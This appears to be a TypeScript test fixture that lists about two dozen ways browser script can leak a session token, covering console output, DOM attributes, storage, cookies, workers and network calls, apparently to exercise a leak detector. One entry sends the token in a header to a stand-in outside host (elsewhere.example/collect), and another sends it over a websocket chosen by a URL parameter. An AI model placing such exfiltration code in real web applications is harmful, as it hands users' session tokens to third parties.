/** What a script can do wrong with a token. */
export const DOORS: Readonly<Record<string, (token: string) => unknown>> = {
  console: (token) => console.log('session', { customer: { token } }),
  'page-error': (token) =>
    setTimeout(() => {
      throw new Error(`Unhandled: ${token}`)
    }),
  'data-attribute': (token) => {
    document.body.dataset['token'] = token
  },
  'hidden-input': (token) => {
    document.body.append(
      Object.assign(document.createElement('input'), { type: 'hidden', value: token }),
    )
  },
  'typed-value': (token) => {
    const input = document.createElement('input')
    document.body.append(input)
    input.value = token
  },
  'shadow-root': (token) => {
    const host = document.body.appendChild(document.createElement('div'))
    host.attachShadow({ mode: 'closed' }).textContent = token
  },
  split: (token) => {
    for (const piece of token.match(/.{8}/g) ?? []) {
      document.body.appendChild(document.createElement('b')).textContent = piece
    }
  },
  'style-sheet': (token) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body::after { content: "${token}" }`)
    document.adoptedStyleSheets = [sheet]
  },
  'local-storage': (token) => localStorage.setItem('state', JSON.stringify({ token })),
  'session-storage-for-a-moment': (token) => {
    sessionStorage.setItem('t', token)
    sessionStorage.removeItem('t')
  },
  'window-name': (token) => {
    window.name = token
  },
  history: (token) => history.replaceState({ ...history.state, token }, ''),
  'cookie-for-a-moment': (token) => {
    // biome-ignore lint/suspicious/noDocumentCookie: that is the leak.
    document.cookie = `t=${token}`
    // biome-ignore lint/suspicious/noDocumentCookie: that is the leak.
    document.cookie = 't=; max-age=0'
  },
  seal: (seal) => {
    // biome-ignore lint/suspicious/noDocumentCookie: that is the leak.
    document.cookie = `copy=${encodeURIComponent(seal)}`
  },
  fragment: (token) => {
    location.hash = token
  },
  dialog: (token) => alert(`Your token is ${token}`),
  message: (token) => postMessage({ token }),
  'indexed-db': (token) =>
    new Promise((resolve) => {
      const opening = indexedDB.open('shop')
      opening.onupgradeneeded = () => opening.result.createObjectStore('sessions')
      opening.onsuccess = () => {
        const writing = opening.result.transaction('sessions', 'readwrite')
        writing.objectStore('sessions').put({ bytes: new TextEncoder().encode(token) }, 'own')
        writing.oncomplete = resolve
      }
    }),
  'cache-storage': async (token) => {
    const cache = await caches.open('shop')
    await cache.put('/session.json', new Response(JSON.stringify({ token })))
  },
  'event-source': () =>
    new Promise((resolve) => {
      new EventSource('/routes/events').addEventListener('session', resolve)
    }),
  'web-socket': (token) =>
    new Promise((resolve) => {
      const socket = new WebSocket(new URLSearchParams(location.search).get('socket') ?? '')
      socket.onopen = () => socket.send(token)
      socket.onmessage = resolve
    }),
  elsewhere: (token) =>
    fetch('http://elsewhere.example/collect', { headers: { 'x-session': token } }).catch(
      () => null,
    ),
  body: (token) => fetch('/clean', { method: 'POST', body: new URLSearchParams({ token }) }),
  download: (token) => {
    const href = URL.createObjectURL(new Blob([`token,${token}`]))
    Object.assign(document.createElement('a'), { href, download: 'session.csv' }).click()
  },
  worker: (token) =>
    new Promise((resolve) => {
      const script = `postMessage(1); setInterval(() => 1, 1000); const token = '${token}'`
      const worker = new Worker(URL.createObjectURL(new Blob([script])))
      worker.onmessage = resolve
    }),
  'service-worker': async () => {
    await navigator.serviceWorker.register('/routes/service-worker', { scope: '/routes/' })
  },
}
